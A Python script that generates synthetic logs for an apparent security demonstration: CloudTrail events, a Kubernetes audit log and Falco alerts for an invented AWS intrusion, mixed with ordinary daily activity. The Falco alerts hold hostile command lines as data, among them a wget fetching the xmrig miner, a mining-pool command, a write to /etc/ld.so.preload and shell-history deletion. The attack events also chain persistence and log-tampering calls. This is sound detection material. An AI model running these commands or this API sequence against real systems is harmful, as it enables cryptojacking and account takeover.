"""Makes the logs of an attack for the demonstration: CloudTrail of two accounts, the audit log of a cluster, alerts of Falco.

An engineer's access key leaks on a Friday. The attacker stays in by new keys and a new user, hides, opens the network, replaces an image,
runs a miner in a pod, takes a role in another account, enters a Fargate task and opens a bucket. Around it the organisation works as every
day. The same run makes the same files: `python3 demo/attack/make.py`.
"""

import json
import pathlib
import random
import uuid

HERE = pathlib.Path(__file__).resolve().parent
SHOP, GAME = "345678901234", "567890123456"
REGION = "ap-northeast-1"
ATTACKER, OFFICE, HOME = "203.0.113.77", "198.51.100.10", "198.51.100.203"
CLI = "aws-cli/2.31.4 md/awscrt#0.27.6 ua/2.1 os/linux#6.8.0 md/arch#x86_64 lang/python#3.13.7"
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36"
KEY, SECOND_KEY, OTHER_KEY, ROLE_KEY = "AKIAVCODYLSA0KENJI77", "AKIAVCODYLSA0KENJI78", "AKIAVCODYLSA0MISAKI9", "ASIAVCODYLSA0GAMEOPS"

_random = random.Random(20260206)


def _uuid():
    return str(uuid.UUID(int=_random.getrandbits(128), version=4))


def user(name, key=None, account=SHOP, mfa=None):
    """Who an IAM user is in an event."""
    identity = {
        "type": "IAMUser",
        "principalId": f"AIDAVCODY{name.upper():0<12.12}",
        "arn": f"arn:aws:iam::{account}:user/{name}",
        "accountId": account,
        "userName": name,
    }
    if key:
        identity["accessKeyId"] = key
    if mfa is not None:
        identity["sessionContext"] = {"attributes": {"creationDate": "2026-01-30T00:30:00Z", "mfaAuthenticated": mfa}}
    return identity


def role(name, session, key, account=SHOP):
    """Who a session of a role is in an event."""
    return {
        "type": "AssumedRole",
        "principalId": f"AROAVCODY{name.upper():0<12.12}:{session}",
        "arn": f"arn:aws:sts::{account}:assumed-role/{name}/{session}",
        "accountId": account,
        "accessKeyId": key,
        "sessionContext": {
            "sessionIssuer": {
                "type": "Role",
                "principalId": f"AROAVCODY{name.upper():0<12.12}",
                "arn": f"arn:aws:iam::{account}:role/{name}",
                "accountId": account,
                "userName": name,
            },
            "attributes": {"creationDate": "2026-01-30T00:00:00Z", "mfaAuthenticated": "false"},
        },
    }


def event(time, service, name, identity, request=None, response=None, address=ATTACKER, agent=CLI, read=False, **more):
    """One event of CloudTrail."""
    account = more.pop("account", identity.get("accountId", SHOP))
    return {
        "eventVersion": "1.11",
        "userIdentity": identity,
        "eventTime": f"2026-01-{time}Z",
        "eventSource": f"{service}.amazonaws.com",
        "eventName": name,
        "awsRegion": more.pop("region", "us-east-1" if service in ("iam", "signin") else REGION),
        "sourceIPAddress": address,
        "userAgent": agent,
        "requestParameters": request,
        "responseElements": response,
        "requestID": _uuid(),
        "eventID": _uuid(),
        "readOnly": read,
        "eventType": "AwsConsoleSignIn" if service == "signin" else "AwsApiCall",
        "managementEvent": True,
        "recipientAccountId": account,
        "eventCategory": "Management",
        **more,
    }


def attack():
    """The attacker's calls, in order."""
    kenji = user("kenji", KEY)
    intruder = user("svc-backup2", "AKIAVCODYLSA0BACKUP2")
    policy = {"Version": "2012-10-17", "Statement": {"Effect": "Allow", "Action": "iam:*", "Resource": "*"}}
    open_bucket = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": "*",
                "Action": ["s3:GetObject", "s3:PutObject"],
                "Resource": "arn:aws:s3:::hinode-game-assets/*",
            }
        ],
    }
    game = role("GameOperations", "kenji-session", ROLE_KEY, GAME)
    yield event("30T14:02:11", "sts", "GetCallerIdentity", kenji, read=True)
    yield event("30T14:02:40", "iam", "GetAccountAuthorizationDetails", kenji, {}, read=True)
    yield event("30T14:03:05", "iam", "ListUsers", kenji, read=True)
    yield event("30T14:03:31", "cloudtrail", "DescribeTrails", kenji, read=True)
    made = {"userName": "kenji", "accessKeyId": SECOND_KEY, "status": "Active", "createDate": "Jan 30, 2026 2:09:12 PM"}
    yield event("30T14:09:12", "iam", "CreateAccessKey", kenji, None, {"accessKey": made})
    made = {"userName": "misaki", "accessKeyId": OTHER_KEY, "status": "Active", "createDate": "Jan 30, 2026 2:10:02 PM"}
    yield event("30T14:10:02", "iam", "CreateAccessKey", kenji, {"userName": "misaki"}, {"accessKey": made})
    arn = f"arn:aws:iam::{SHOP}:user/svc-backup2"
    made = {"path": "/", "arn": arn, "userId": "AIDAVCODYSVCBACKUP20", "userName": "svc-backup2", "createDate": "Jan 30, 2026 2:13:44 PM"}
    yield event("30T14:13:44", "iam", "CreateUser", kenji, {"userName": "svc-backup2"}, {"user": made})
    yield event("30T14:14:20", "iam", "AddUserToGroup", kenji, {"groupName": "Administrators", "userName": "svc-backup2"})
    request = {"userName": "svc-backup2", "policyName": "backup", "policyDocument": json.dumps(policy)}
    yield event("30T14:15:37", "iam", "PutUserPolicy", kenji, request)
    made = {
        "userName": "svc-backup2",
        "accessKeyId": "AKIAVCODYLSA0BACKUP2",
        "status": "Active",
        "createDate": "Jan 30, 2026 2:16:10 PM",
    }
    yield event("30T14:16:10", "iam", "CreateAccessKey", kenji, {"userName": "svc-backup2"}, {"accessKey": made})
    made = {"userName": "svc-backup2", "createDate": "Jan 30, 2026 2:16:55 PM", "passwordResetRequired": False}
    request = {"userName": "svc-backup2", "passwordResetRequired": False}
    yield event("30T14:16:55", "iam", "CreateLoginProfile", kenji, request, {"loginProfile": made})
    more = {"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"}
    yield event(
        "30T14:21:18",
        "signin",
        "ConsoleLogin",
        user("svc-backup2"),
        None,
        {"ConsoleLogin": "Success"},
        agent=BROWSER,
        additionalEventData=more,
    )
    yield event("30T14:26:02", "cloudtrail", "StopLogging", intruder, {"name": "hinode-trail"}, errorCode="AccessDenied",
                errorMessage="User is not authorized to perform: cloudtrail:StopLogging with an explicit deny in a service control policy")
    request = {"logGroupName": "aws-cloudtrail-logs-345678901234", "logStreamName": f"{SHOP}_CloudTrail_{REGION}"}
    yield event("30T14:27:33", "logs", "DeleteLogStream", intruder, request)
    rule = {
        "items": [
            {
                "ipProtocol": "-1",
                "groups": {},
                "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]},
                "ipv6Ranges": {},
                "prefixListIds": {},
            }
        ]
    }
    request = {"groupId": "sg-0a1b2c3d4e5f60718", "ipPermissions": rule}
    yield event("30T14:40:09", "ec2", "AuthorizeSecurityGroupIngress", intruder, request, {"_return": True})
    yield event("30T15:02:51", "ecr", "GetAuthorizationToken", intruder, None, read=True)
    request = {"registryId": SHOP, "repositoryName": "shop/web", "imageTag": "prod-2026-01", "imageManifestMediaType": "application/vnd.docker.distribution.manifest.v2+json"}
    made = {"image": {"repositoryName": "shop/web", "registryId": SHOP, "imageId": {"imageTag": "prod-2026-01", "imageDigest": "sha256:5f1d7a84db00d2fce00b31a7fc73224f"}}}
    yield event("30T15:05:12", "ecr", "PutImage", intruder, request, made, agent="docker/29.1.2 go/go1.25.5 kernel/6.8.0 os/linux arch/amd64")
    yield event("30T15:20:40", "eks", "DescribeCluster", kenji, {"name": "shop-prod"}, read=True)
    request = {"roleArn": f"arn:aws:iam::{GAME}:role/GameOperations", "roleSessionName": "kenji-session"}
    made = {
        "credentials": {"accessKeyId": ROLE_KEY, "expiration": "Jan 30, 2026 5:02:00 PM", "sessionToken": "HIDDEN"},
        "assumedRoleUser": {"assumedRoleId": "AROAVCODYGAMEOPERATI:kenji-session", "arn": game["arn"]},
    }
    yield event("30T16:02:00", "sts", "AssumeRole", kenji, request, made, read=True)
    request = {"cluster": "b2b-internal-platform", "task": "1f2e3d4c5b6a47988796a5b4c3d2e1f0", "container": "api", "command": "/bin/sh", "interactive": True}
    made = {"clusterArn": f"arn:aws:ecs:{REGION}:{GAME}:cluster/b2b-internal-platform", "session": {"sessionId": "ecs-execute-command-0c5f6e7d8a9b0c1d2"}}
    yield event("30T16:08:23", "ecs", "ExecuteCommand", game, request, made)
    yield event("30T16:31:47", "s3", "DeleteBucketPublicAccessBlock", game, {"bucketName": "hinode-game-assets", "publicAccessBlock": ""})
    request = {"bucketName": "hinode-game-assets", "bucketPolicy": open_bucket, "policy": ""}
    yield event("30T16:32:15", "s3", "PutBucketPolicy", game, request)


def everyday():
    """What everybody else does on such a day: nothing of it is an attack."""
    deploy = role("DeployPipeline", "github-actions", "ASIAVCODYLSA0DEPLOY1")
    reader = role("YaguraReadOnly", "yagura", "ASIAVCODYLSA0YAGURA1")
    for hour in range(0, 24):
        for account in (SHOP, GAME):
            who = role("YaguraReadOnly", "yagura", "ASIAVCODYLSA0YAGURA1", account)
            for service, name in (("ec2", "DescribeInstances"), ("s3", "ListBuckets"), ("iam", "ListRoles"), ("rds", "DescribeDBInstances")):
                minute, second = _random.randrange(60), _random.randrange(60)
                yield event(f"30T{hour:02}:{minute:02}:{second:02}", service, name, who, read=True, address=OFFICE)
    for hour in (1, 3, 5, 8):
        request = {"cluster": "shop", "service": "web", "taskDefinition": f"web:{hour + 40}"}
        yield event(f"30T{hour:02}:15:00", "ecs", "UpdateService", deploy, request, {"service": {"serviceName": "web"}}, address="192.0.2.44")
        request = {"registryId": SHOP, "repositoryName": "shop/web", "imageTag": f"build-{hour + 400}"}
        yield event(f"30T{hour:02}:12:00", "ecr", "PutImage", deploy, request, {"image": {}}, address="192.0.2.44")
    for name, hour in (("misaki", 0), ("kenji", 1), ("tanaka", 2)):
        more = {"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "Yes"}
        yield event(f"30T{hour:02}:31:07", "signin", "ConsoleLogin", user(name), None, {"ConsoleLogin": "Success"}, address=OFFICE, agent=BROWSER, additionalEventData=more)
    for minute in (3, 17, 42):
        request = {"bucketName": "hinode-shop-images", "key": f"banner-{minute}.png"}
        yield event(f"30T04:{minute:02}:10", "s3", "PutObject", user("misaki", "ASIAVCODYLSA0MISAKI1", mfa="true"), request, address=OFFICE, managementEvent=False, eventCategory="Data")
    # The engineer's own work, in the evening, from home.
    for minute, name in ((5, "DescribeServices"), (9, "DescribeTasks"), (26, "UpdateService")):
        yield event(f"30T10:{minute:02}:30", "ecs", name, user("kenji", KEY), {"cluster": "shop"}, address=HOME, read=name != "UpdateService")
    yield event("30T02:20:00", "ec2", "RunInstances", deploy, {"instanceType": "t3.small", "minCount": 1, "maxCount": 1}, {"instancesSet": {"items": [{"instanceId": "i-0f00ba4dca5e00001"}]}}, address="192.0.2.44")
    _ = reader


def audit(time, verb, resource, name, user_name, extra=None, sub=None, code=200, address=OFFICE, **more):
    """One event of the cluster's audit log."""
    reference = {"resource": resource, "namespace": "shop", "name": name, "apiVersion": "v1"}
    if sub:
        reference["subresource"] = sub
    uri = f"/api/v1/namespaces/shop/{resource}/{name}" + (f"/{sub}" if sub else "")
    return {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "Metadata",
        "auditID": _uuid(),
        # What goes on, as exec does, is told when it begins.
        "stage": "ResponseStarted" if code == 101 else "ResponseComplete",
        "requestURI": more.pop("uri", uri),
        "verb": verb,
        "user": {"username": user_name, "groups": ["system:authenticated"], "extra": extra or {}},
        "sourceIPs": [address],
        "userAgent": more.pop("agent", "kubectl/v1.34.2 (linux/amd64) kubernetes/8cc511e"),
        "objectRef": reference,
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": f"2026-01-{time}.104233Z",
        "stageTimestamp": f"2026-01-{time}.250114Z",
        **more,
    }


POD = "web-5dbc9fccdb-rgt5w"


def cluster():
    """The audit log of the cluster `shop-prod`."""
    arn = f"arn:aws:iam::{SHOP}:user/kenji"
    kenji = {"accessKeyId": [KEY], "arn": [arn], "canonicalArn": [arn], "principalId": ["AIDAVCODYKENJI000000"], "sessionName": [""]}
    for hour in range(0, 24, 2):
        yield audit(f"30T{hour:02}:00:03", "get", "pods", POD, "system:serviceaccount:kube-system:replicaset-controller", address="10.0.12.7", agent="kube-controller-manager/v1.34.2")
    yield audit("30T10:07:44", "get", "pods", POD, "kubernetes-admin", kenji, address=HOME)
    yield audit("30T15:24:10", "list", "pods", "", "kubernetes-admin", kenji, address=ATTACKER, uri="/api/v1/namespaces/shop/pods")
    yield audit(
        "30T15:25:38",
        "create",
        "pods",
        POD,
        "kubernetes-admin",
        kenji,
        "exec",
        101,
        ATTACKER,
        uri=f"/api/v1/namespaces/shop/pods/{POD}/exec?command=%2Fbin%2Fbash&container=nginx&stdin=true&stdout=true&tty=true",
    )


def alert(time, rule, priority, fields, tags):
    """One alert of Falco, as its JSON output writes it."""
    common = {
        "container.id": "3ad7b26ded6d",
        "container.image.repository": f"{SHOP}.dkr.ecr.{REGION}.amazonaws.com/shop/web",
        "container.name": "nginx",
        "evt.time": 0,
        "k8s.ns.name": "shop",
        "k8s.pod.name": POD,
        "user.name": "root",
    }
    return {
        "uuid": _uuid(),
        "output": f"{rule} (user=root command={fields['proc.cmdline']} container=3ad7b26ded6d namespace=shop pod={POD})",
        "priority": priority,
        "rule": rule,
        "source": "syscall",
        "tags": tags,
        "time": f"2026-01-{time}.118273645Z",
        "hostname": "ip-10-0-12-31.ap-northeast-1.compute.internal",
        "output_fields": {**common, **fields},
    }


def runtime():
    """What Falco on the node saw in the pod, by the built-in rules."""
    shell = {"proc.pname": "bash", "proc.tty": 34816}
    fields = {"evt.type": "execve", "proc.name": "bash", "proc.cmdline": "bash", "proc.pname": "runc", "proc.tty": 34816}
    yield alert("30T15:25:39", "Shell opened in a container", "Notice", fields, ["container", "process", "mitre_execution", "T1059.004", "T1609"])
    command = "wget -qO- https://github.com/xmrig/xmrig/releases/download/v6.3.1/xmrig-6.3.1-xenial-x64.tar.gz"
    fields = {"evt.type": "execve", "proc.name": "wget", "proc.cmdline": command, **shell}
    tags = ["container", "host", "process", "mitre_command_and_control", "T1105", "T1496.001"]
    yield alert("30T15:27:02", "Cryptocurrency miner downloaded", "Error", fields, tags)
    command = "xmrig -o stratum+tcp://pool.example.net:4444 -u hinode"
    fields = {"evt.type": "execve", "proc.name": "xmrig", "proc.cmdline": command, **shell}
    yield alert("30T15:27:48", "Cryptocurrency miner started", "Critical", fields, ["container", "host", "process", "mitre_impact", "T1496.001"])
    fields = {"evt.type": "openat", "evt.is_open_write": True, "fd.name": "/etc/ld.so.preload", "proc.name": "bash", "proc.cmdline": "bash", "proc.pname": "runc", "proc.tty": 34816}
    tags = ["container", "filesystem", "host", "mitre_defense_evasion", "mitre_persistence", "T1574.006"]
    yield alert("30T15:33:20", "Preload file of the dynamic linker changed", "Critical", fields, tags)
    fields = {"evt.type": "execve", "proc.name": "rm", "proc.cmdline": "rm .bash_history", **shell}
    yield alert("30T15:35:11", "Shell history deleted", "Warning", fields, ["container", "host", "process", "mitre_defense_evasion", "T1070.003"])


def write(name, text):
    """Writes one file below this directory."""
    path = HERE / "logs" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def main():
    """Writes every log."""
    events = sorted([*attack(), *everyday()], key=lambda it: it["eventTime"])
    for account in (SHOP, GAME):
        # A call of one account that takes a role of another stands in both logs.
        own = [it for it in events if it["recipientAccountId"] == account]
        lines = ",\n".join(json.dumps(it, separators=(",", ":")) for it in own)
        name = f"AWSLogs/o-y1a2rogubb/{account}/CloudTrail/{REGION}/2026/01/30/{account}_CloudTrail_{REGION}_20260130T2359Z_hinode.json"
        write(name, '{"Records":[\n' + lines + "\n]}\n")
    write("kubernetes/shop-prod-audit.log", "".join(json.dumps(it, separators=(",", ":")) + "\n" for it in cluster()))
    write("falco/shop-prod-alerts.json", "".join(json.dumps(it, separators=(",", ":")) + "\n" for it in runtime()))


if __name__ == "__main__":
    main()
